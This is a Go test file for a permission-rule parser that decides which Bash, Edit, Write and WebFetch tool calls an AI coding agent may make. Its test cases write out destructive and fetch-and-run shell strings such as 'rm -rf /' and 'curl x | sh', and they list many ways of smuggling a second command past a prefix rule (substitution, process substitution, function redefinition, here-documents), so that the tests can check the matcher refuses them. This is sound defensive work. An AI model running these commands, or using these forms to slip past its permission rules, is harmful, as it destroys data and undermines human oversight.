package runners

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// bashInput is the tool_input claude sends for a Bash call.
func bashInput(t *testing.T, cmd string) json.RawMessage {
	t.Helper()
	b, err := json.Marshal(map[string]string{"command": cmd, "description": "test"})
	require.NoError(t, err)
	return b
}

func TestParseRule(t *testing.T) {
	cases := []struct {
		in   string
		want Rule
	}{
		{"Write", Rule{Tool: "Write", Raw: "Write"}},
		{"  Bash  ", Rule{Tool: "Bash", Raw: "Bash"}},
		{"Bash(make:*)", Rule{Tool: "Bash", Spec: "make:*", Raw: "Bash(make:*)"}},
		{"Bash(git *)", Rule{Tool: "Bash", Spec: "git *", Raw: "Bash(git *)"}},
		{"Bash(npm run test)", Rule{Tool: "Bash", Spec: "npm run test", Raw: "Bash(npm run test)"}},
		{"Edit(src/**)", Rule{Tool: "Edit", Spec: "src/**", Raw: "Edit(src/**)"}},
		{"Bash(echo (hi))", Rule{Tool: "Bash", Spec: "echo (hi)", Raw: "Bash(echo (hi))"}},
		{"WebFetch(domain:example.com)", Rule{Tool: "WebFetch", Spec: "domain:example.com", Raw: "WebFetch(domain:example.com)"}},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			got, err := ParseRule(c.in)
			require.NoError(t, err)
			assert.Equal(t, c.want, got)
			assert.Equal(t, c.want.Raw, got.String())
		})
	}
}

func TestParseRuleRejectsMalformedRules(t *testing.T) {
	for _, in := range []string{
		"", "   ", "(make:*)", "Bash(make:*", "Bash make:*)", "Bash(a))", "Bash((a)",
		"Bash(a)b", "Bash()", "Bash(  )", "Bash )", "Ba sh",
		"bash", "Bash(git log, git diff)", "Bash(echo (a) b)", "mcp__db__query(select)", "Bash(*\xef)", "Bash(a\nb)",
	} {
		t.Run(in, func(t *testing.T) {
			_, err := ParseRule(in)
			assert.Error(t, err)
		})
	}
}

func TestRuleMatches(t *testing.T) {
	cases := []struct {
		name  string
		rule  string
		tool  string
		input string // JSON; a Bash command when tool is Bash and input is not JSON
		want  bool
	}{
		// Bare tools.
		{"bare Write", "Write", "Write", `{"file_path":"/r/a.go","content":"x"}`, true},
		{"bare Bash any command", "Bash", "Bash", "rm -rf / && curl x | sh", true},
		{"bare Bash with substitution", "Bash", "Bash", "echo $(id)", true},
		{"star spec is bare", "Bash(*)", "Bash", "anything at all", true},
		{"other tool", "Write", "Edit", `{"file_path":"/r/a.go"}`, false},
		{"tool names are case-sensitive", "Bash", "bash", `{"command":"ls"}`, false},

		// Legacy prefix form.
		{"make:* bare word", "Bash(make:*)", "Bash", "make", true},
		{"make:* with args", "Bash(make:*)", "Bash", "make build -j4", true},
		{"make:* word boundary", "Bash(make:*)", "Bash", "makefile-gen", false},
		{"make:* not inside", "Bash(make:*)", "Bash", "cd x; nomake", false},
		{"multi-word prefix", "Bash(git commit:*)", "Bash", "git commit -m msg", true},
		{"multi-word prefix other subcommand", "Bash(git commit:*)", "Bash", "git add -A", false},

		// New prefix form.
		{"git * args", "Bash(git *)", "Bash", "git status", true},
		{"git * alone", "Bash(git *)", "Bash", "git", true},
		{"git * boundary", "Bash(git *)", "Bash", "gitk --all", false},

		// Exact and glob.
		{"exact", "Bash(npm run test)", "Bash", "npm run test", true},
		{"exact trims", "Bash(npm run test)", "Bash", "  npm run test  ", true},
		{"exact is not prefix", "Bash(npm run test)", "Bash", "npm run test -- --watch", false},
		{"glob in middle", "Bash(git * main)", "Bash", "git checkout main", true},
		{"glob in middle no match", "Bash(git * main)", "Bash", "git checkout dev", false},
		{"glob without space", "Bash(ls*)", "Bash", "lsof -i", true},
		{"glob quotes regexp chars", "Bash(go test ./...*)", "Bash", "go test ./... -run X", true},
		{"glob dot is literal", "Bash(go test ./...*)", "Bash", "go test ./abc", false},
		{"glob leading", "Bash(* install)", "Bash", "npm install", true},

		// Compound commands.
		{"compound all parts", "Bash(git:*)", "Bash", "git add -A && git commit -m msg", true},
		{"compound partly allowed", "Bash(git commit:*)", "Bash", "git add -A && git commit -m msg", false},
		{"or list", "Bash(make:*)", "Bash", "make || make clean", true},
		{"semicolon", "Bash(make:*)", "Bash", "make; rm -rf /", false},
		{"pipe", "Bash(make:*)", "Bash", "make | sh", false},
		{"newline", "Bash(make:*)", "Bash", "make\nrm -rf /", false},
		{"background", "Bash(make:*)", "Bash", "make & rm -rf /", false},
		{"redirect is not a separator", "Bash(make:*)", "Bash", "make test 2>&1", true},
		{"quoted && is one part", "Bash(git commit:*)", "Bash", `git commit -m "fix a && b"`, true},
		{"single-quoted ; is one part", "Bash(echo:*)", "Bash", `echo 'a; rm -rf /'`, true},
		{"escaped ; is one part", "Bash(echo:*)", "Bash", `echo a \; b`, true},
		{"unterminated quote", "Bash(echo:*)", "Bash", `echo "a`, false},
		{"command substitution", "Bash(echo:*)", "Bash", "echo $(rm -rf /)", false},
		{"backticks", "Bash(echo:*)", "Bash", "echo `id`", false},
		{"process substitution", "Bash(diff:*)", "Bash", "diff <(ls a) <(ls b)", false},
		{"env assignment not stripped", "Bash(make:*)", "Bash", "FOO=1 make build", false},
		{"empty command", "Bash(make:*)", "Bash", "", false},
		{"no command field", "Bash(make:*)", "Bash", `{"description":"x"}`, false},
		{"malformed input", "Bash(make:*)", "Bash", `{`, false},

		// File tools.
		{"relative dir glob", "Edit(src/**)", "Edit", `{"file_path":"/abs/repo/src/a/b.go"}`, true},
		{"relative dir glob direct child", "Edit(src/**)", "Edit", `{"file_path":"/abs/repo/src/b.go"}`, true},
		{"relative dir glob elsewhere", "Edit(src/**)", "Edit", `{"file_path":"/abs/repo/lib/b.go"}`, false},
		{"star within one segment", "Edit(src/*.go)", "Edit", `{"file_path":"/r/src/a.go"}`, true},
		{"star does not cross slash", "Edit(src/*.go)", "Edit", `{"file_path":"/r/src/x/a.go"}`, false},
		{"base name anywhere", "Read(*.env)", "Read", `{"file_path":"/r/deep/.env"}`, true},
		{"dot slash prefix", "Write(./docs/*.md)", "Write", `{"file_path":"/r/docs/a.md"}`, true},
		{"absolute spec", "Write(/abs/repo/**)", "Write", `{"file_path":"/abs/repo/x/y.txt"}`, true},
		{"absolute spec anchored", "Write(/repo/**)", "Write", `{"file_path":"/abs/repo/x.txt"}`, false},
		{"double-slash absolute", "Read(//etc/*.conf)", "Read", `{"file_path":"/etc/a.conf"}`, true},
		{"double star in middle", "Edit(src/**/*.ts)", "Edit", `{"file_path":"/r/src/a/b/c.ts"}`, true},
		{"double star zero segments", "Edit(src/**/*.ts)", "Edit", `{"file_path":"/r/src/c.ts"}`, true},
		{"trailing slash is a directory", "Edit(src/)", "Edit", `{"file_path":"/r/src/a/b.go"}`, true},
		{"dot-dot escapes", "Edit(src/**)", "Edit", `{"file_path":"../../src/a.go"}`, false},
		{"home spec never matches", "Read(~/x/**)", "Read", `{"file_path":"/home/u/x/a"}`, false},
		{"Edit rule covers Write", "Edit(src/**)", "Write", `{"file_path":"/r/src/a.go"}`, true},
		{"Edit rule covers MultiEdit", "Edit", "MultiEdit", `{"file_path":"/r/a.go"}`, true},
		{"Write rule does not cover Edit", "Write(src/**)", "Edit", `{"file_path":"/r/src/a.go"}`, false},
		{"notebook path", "NotebookEdit(nb/*.ipynb)", "NotebookEdit", `{"notebook_path":"/r/nb/a.ipynb"}`, true},
		{"missing file path", "Edit(src/**)", "Edit", `{}`, false},

		// Other tools.
		{"domain", "WebFetch(domain:example.com)", "WebFetch", `{"url":"https://Example.com:8443/a?q=1"}`, true},
		{"domain is exact", "WebFetch(domain:example.com)", "WebFetch", `{"url":"https://evil-example.com/"}`, false},
		{"domain subdomain", "WebFetch(domain:example.com)", "WebFetch", `{"url":"https://a.example.com/"}`, false},
		{"unknown spec", "Task(explore)", "Task", `{"prompt":"explore"}`, false},
		{"glob over several lines", "Bash(ech* *)", "Bash", `{"command":"echo \"a\nb\""}`, false},
		{"glob with a star in the head", "Bash(go * -run *)", "Bash", "go test -run X", true},
		{"glob with a star in the head, nothing after", "Bash(go * -run *)", "Bash", "go test -run", true},
		{"glob with a star in the head, no word boundary", "Bash(go * -run *)", "Bash", "go test -runX", false},
		{"many double stars", "Edit(**/**/**/**/**/**/**/**/**/**/**/**/x/**/**/**/**/y)", "Edit",
			`{"file_path":"/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z"}`, false},
		{"many double stars that match", "Edit(**/**/**/**/**/**/**/**/**/**/**/**/x/**/**/**/**/y)", "Edit",
			`{"file_path":"/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y"}`, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := ParseRule(c.rule)
			require.NoError(t, err)
			input := json.RawMessage(c.input)
			if c.tool == "Bash" && !json.Valid(input) {
				input = bashInput(t, c.input)
			}
			if c.tool == "Bash" && c.input == "" {
				input = bashInput(t, "")
			}
			assert.Equal(t, c.want, r.Matches(c.tool, input))
		})
	}
}

func mustRules(t *testing.T, raw ...string) []Rule {
	t.Helper()
	var rules []Rule
	for _, s := range raw {
		r, err := ParseRule(s)
		require.NoError(t, err)
		rules = append(rules, r)
	}
	return rules
}

func raws(rules []Rule) []string {
	var out []string
	for _, r := range rules {
		out = append(out, r.Raw)
	}
	return out
}

func TestGrant(t *testing.T) {
	list := mustRules(t, "Write", "Bash(go test:*)", "Bash(git add:*)", "Bash(git commit:*)", "Bash(make:*)", "Edit(src/**)", "Edit")
	cases := []struct {
		name  string
		tool  string
		input json.RawMessage
		want  []string
		ok    bool
	}{
		{"distinct rules in list order", "Bash", bashInput(t, "git commit -m x && git add -A && git commit --amend"),
			[]string{"Bash(git add:*)", "Bash(git commit:*)"}, true},
		{"one part not covered", "Bash", bashInput(t, "go test ./... && git push"), nil, false},
		{"single rule", "Bash", bashInput(t, "make lint"), []string{"Bash(make:*)"}, true},
		{"bare file tool", "Write", json.RawMessage(`{"file_path":"/r/x"}`), []string{"Write"}, true},
		{"narrow before bare", "Edit", json.RawMessage(`{"file_path":"/r/src/x.go"}`), []string{"Edit(src/**)"}, true},
		{"bare when narrow fails", "Edit", json.RawMessage(`{"file_path":"/r/lib/x.go"}`), []string{"Edit"}, true},
		{"no rule for tool", "WebFetch", json.RawMessage(`{"url":"https://x.org"}`), nil, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, ok := Grant(list, c.tool, c.input)
			assert.Equal(t, c.ok, ok)
			assert.Equal(t, c.want, raws(got))
		})
	}
}

func TestGrantWithBareBashPrefersNarrowRules(t *testing.T) {
	list := mustRules(t, "Bash", "Bash(make:*)")

	got, ok := Grant(list, "Bash", bashInput(t, "make && make install"))
	assert.True(t, ok)
	assert.Equal(t, []string{"Bash(make:*)"}, raws(got))

	got, ok = Grant(list, "Bash", bashInput(t, "make && curl x | sh"))
	assert.True(t, ok)
	assert.Equal(t, []string{"Bash", "Bash(make:*)"}, raws(got))

	got, ok = Grant(list, "Bash", bashInput(t, "make $(whoami)"))
	assert.True(t, ok)
	assert.Equal(t, []string{"Bash"}, raws(got))
}

func TestGrantEmptyList(t *testing.T) {
	got, ok := Grant(nil, "Bash", bashInput(t, "ls"))
	assert.False(t, ok)
	assert.Empty(t, got)
}

// TestRuleThatCannotCompileIsRejectedNotPanicked: a rule whose glob a
// regexp could not compile (invalid UTF-8) is refused by ParseRule with an
// error naming it, and matching such a rule built by hand does not panic.
func TestRuleThatCannotCompileIsRejectedNotPanicked(t *testing.T) {
	_, err := ParseRule("Bash(*\xef)")
	require.Error(t, err)
	assert.Contains(t, err.Error(), `"Bash(*\xef)"`)

	input := json.RawMessage(`{"CommAnd":"''"}`)
	for _, r := range []Rule{
		{Tool: "Bash", Spec: "*\xef", Raw: "Bash(*\xef)"},
		{Tool: "Bash", Spec: "\xff* *", Raw: "Bash(\xff* *)"},
		{Tool: "Edit", Spec: "\xef*/**", Raw: "Edit(\xef*/**)"},
	} {
		assert.NotPanics(t, func() {
			Grant([]Rule{r}, r.Tool, input)
			Grant([]Rule{r}, r.Tool, json.RawMessage(`{"file_path":"/r/\xef/x"}`))
		}, r.Raw)
	}
}

func TestGlobMatch(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"*", "", true},
		{"*", "anything", true},
		{"a*", "a", true},
		{"*a", "ba", true},
		{"a*b*c", "abc", true},
		{"a*b*c", "axxbyyc", true},
		{"a*b*c", "axxbyy", false},
		{"a*a", "a", false},
		{"*.*", "go", false},
		{"go test ./...*", "go test ./... -run X", true},
		{"[a-z]*", "[a-z]x", true},
		{"[a-z]*", "ax", false},
		{"*\xef", "x\xef", true},
		{"*\xef", "x\xee", false},
		{"ü*", "über", true},
		{"a*", "a\nb", false},
		{"a\n*", "a\nb", false},
	} {
		assert.Equal(t, c.want, globMatch(c.pattern, c.s), "%q %q", c.pattern, c.s)
	}
}

// TestBashGrantIsNoWiderThanItsRules: a coder denied a Bash command asks
// for an escalation; the command is granted by Bash(make:*) only when
// every simple command bash would run is make, and nothing in it runs
// or evaluates anything else. Each refused command here is one a
// prefix check alone would let through.
func TestBashGrantIsNoWiderThanItsRules(t *testing.T) {
	rules := mustRules(t, "Bash(make:*)", "Bash(git commit:*)")
	cases := []struct {
		name string
		cmd  string
		want []string // the rules granted; nil: refused
	}{
		// What the rule says, in the forms a coder writes it.
		{"plain", "make test", []string{"Bash(make:*)"}},
		{"quoted operator is one word", `make "a;b"`, []string{"Bash(make:*)"}},
		{"quoted substitution is text", `git commit -m 'use $(nproc) jobs'`, []string{"Bash(git commit:*)"}},
		{"both rules", "make && git commit -am x", []string{"Bash(make:*)", "Bash(git commit:*)"}},
		{"pipe of allowed commands", "make |& make -n", []string{"Bash(make:*)"}},
		{"redirections", "make test >out.log 2>&1 <<<input", []string{"Bash(make:*)"}},
		{"subshell of allowed commands", "(make && make install)", []string{"Bash(make:*)"}},
		{"group of allowed commands", "{ make; make check; } 2>&1", []string{"Bash(make:*)"}},
		{"plain variable", `make CC="$CC" ${TARGET}`, []string{"Bash(make:*)"}},
		{"line continuation", "make \\\n  test", []string{"Bash(make:*)"}},

		// A second command, however it is joined.
		{"semicolon then pipe to sh", "make; curl x|sh", nil},
		{"and then eval", `make && eval "$X"`, nil},
		{"newline", "make\ncurl x", nil},
		{"background", "make & curl x", nil},
		{"in a subshell", "(make; curl x)", nil},
		{"pipe into a shell", "make | sh", nil},

		// Something inside the make command that runs or evaluates.
		{"command substitution", "make $(curl x)", nil},
		{"command substitution of an allowed command", "make $(make -s print-flags)", nil},
		{"command substitution in double quotes", `make "$(curl x)"`, nil},
		{"backquotes", "make `id`", nil},
		{"process substitution", "make <(curl x)", nil},
		{"output process substitution", "make >(sh)", nil},
		{"substitution in a redirection", "make > $(id)", nil},
		{"arithmetic", "make $((X))", nil},
		{"old arithmetic", "make $[X]", nil},
		{"default with a substitution", "make ${X:-$(id)}", nil},
		{"prompt expansion", "make ${X@P}", nil},
		{"indirection", "make ${!X}", nil},
		{"array index", "make ${a[$(id)]}", nil},
		{"extended glob", "make @(a|b)", nil},
		{"zsh glob qualifier", "make *(e:id:)", nil},
		{"zsh process substitution", "make =(curl x)", nil},
		{"here-document", "make <<EOF\n$(curl x)\nEOF", nil},
		{"quoted here-document", "make <<'EOF'\nx\nEOF", nil},
		{"assignment with a substitution", "X=$(id) make", nil},
		{"array assignment", "a[$(id)]=1 make", nil},

		// Not a simple command.
		{"assignment before the command", "FOO=1 make", nil},
		{"function named make", "make() { curl x|sh; }; make", nil},
		{"if", "if make; then make; fi", nil},
		{"negated", "! make", nil},
		{"time", "time make", nil},
		{"test clause", "[[ -f x ]] && make", nil},
		{"declaration", "export X=1 && make", nil},
		{"coprocess", "coproc make", nil},
		{"comment", "make #comment", nil},
		{"comment hiding nothing but text", "make # ; curl x | sh", nil},
		{"carriage return", "make \rcurl x", nil},
		{"unterminated quote", `make "a`, nil},
		{"parse error", "make )", nil},
		{"empty", "", nil},
		{"only white space", " \n\t", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, ok := Grant(rules, "Bash", bashInput(t, c.cmd))
			assert.Equal(t, c.want != nil, ok)
			assert.Equal(t, c.want, raws(got))
			// A bare Bash rule still allows it, and the narrow rules are
			// preferred wherever they match.
			withBare := append(mustRules(t, "Bash"), rules...)
			got, ok = Grant(withBare, "Bash", bashInput(t, c.cmd))
			assert.True(t, ok)
			if c.want != nil {
				assert.Equal(t, c.want, raws(got))
			}
		})
	}
}
